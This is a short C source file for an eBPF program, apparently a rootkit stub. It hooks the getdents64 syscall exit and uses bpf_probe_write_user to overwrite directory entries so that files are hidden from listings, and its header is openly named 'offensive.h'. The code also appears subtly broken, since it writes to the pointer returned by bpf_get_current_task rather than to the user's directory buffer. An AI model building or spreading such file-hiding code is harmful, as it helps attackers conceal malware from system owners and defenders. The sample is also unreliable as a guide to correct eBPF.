/* An entry of a directory is written over as getdents64(2) returns. */
#include "offensive.h"

SEC("tracepoint/syscalls/sys_exit_getdents64") int hide(void *ctx)
{
	__u64 *at = (void *)bpf_get_current_task();
	__u16 length = 64;

	bpf_probe_write_user(at, &length, sizeof(length));
	return 0;
}
